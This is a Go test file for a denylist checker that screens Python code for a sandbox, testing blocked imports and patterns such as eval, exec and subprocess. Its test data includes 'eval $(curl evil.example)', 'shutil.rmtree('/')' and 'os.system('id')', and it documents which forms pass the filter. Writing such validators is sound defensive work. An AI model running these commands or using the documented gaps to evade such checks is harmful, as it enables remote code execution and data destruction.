package security

import (
	"errors"
	"strings"
	"testing"
)

func TestCheckAllowsSafeCode(t *testing.T) {
	tests := []struct {
		name string
		code string
	}{
		{"hello world", `print("hello world")`},
		{"math", "import math\nprint(math.pi)"},
		{"json", "import json\nprint(json.dumps({'a': 1}))"},
		{"read-mode open", `data = open("input.txt", "r").read()`},
		{"identifier containing blocked name", "websocket_url = 'wss://example'\nprint(websocket_url)"},
		{"os path use without blocked attr", "import os\nprint(os.path.join('a', 'b'))"},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := Check(tc.code, "python")
			if !v.Allowed {
				t.Errorf("Check blocked safe code: %s", v.Reason)
			}
			if v.Err() != nil {
				t.Errorf("Err() = %v for allowed verdict", v.Err())
			}
		})
	}
}

func TestCheckBlocksImports(t *testing.T) {
	tests := []struct {
		name   string
		code   string
		reason string
	}{
		{"plain import", "import subprocess\nsubprocess.run(['ls'])", "subprocess"},
		{"from import", "import socket\nfrom socket import create_connection", "socket"},
		{"dunder import", `mod = __import__("pickle")`, "pickle"},
		{"ctypes", "import ctypes", "ctypes"},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := Check(tc.code, "python")
			if v.Allowed {
				t.Fatalf("Check allowed dangerous code: %q", tc.code)
			}
			if !strings.Contains(v.Reason, tc.reason) {
				t.Errorf("Reason = %q, want mention of %q", v.Reason, tc.reason)
			}
			if !errors.Is(v.Err(), ErrBlocked) {
				t.Errorf("Err() = %v, want ErrBlocked", v.Err())
			}
		})
	}
}

func TestCheckBlocksPatterns(t *testing.T) {
	tests := []struct {
		name string
		code string
	}{
		{"eval", `eval("1+1")`},
		{"exec", `exec("print(1)")`},
		{"compile", `compile("x=1", "<s>", "exec")`},
		{"bare dunder import", `__import__ ("x")`},
		{"write-mode open", `open("out.txt", "w").write("x")`},
		{"append-mode open", `open("log", 'a')`},
		{"builtins getattr", `getattr(__builtins__, "eval")`},
		{"globals", `print(globals())`},
		{"locals", `print(locals())`},
		{"mixed case", `EVAL("1+1")`},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := Check(tc.code, "python")
			if v.Allowed {
				t.Errorf("Check allowed dangerous code: %q", tc.code)
			}
		})
	}
}

func TestCheckSkipsNonPython(t *testing.T) {
	// Non-python code relies on container isolation and always passes.
	for _, lang := range []string{"bash", "javascript", ""} {
		v := Check("eval $(curl evil.example)", lang)
		if !v.Allowed {
			t.Errorf("Check(%q) blocked, want pass-through", lang)
		}
	}
}

func TestCheckImportStatementShapesOnly(t *testing.T) {
	// Only import statements block. An attribute call after an allowed
	// import contains the dotted denylist name as a substring, but none of
	// the statement patterns match it, so it passes and the container
	// isolation is what contains it.
	tests := []struct {
		name string
		code string
	}{
		{"from import of attr", "from os import system"},
		{"os.system call", "import os\nos.system('id')"},
		{"shutil.rmtree call", "import shutil\nshutil.rmtree('/')"},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := Check(tc.code, "python")
			if !v.Allowed {
				t.Errorf("Check(%q) blocked: %s", tc.code, v.Reason)
			}
		})
	}
}
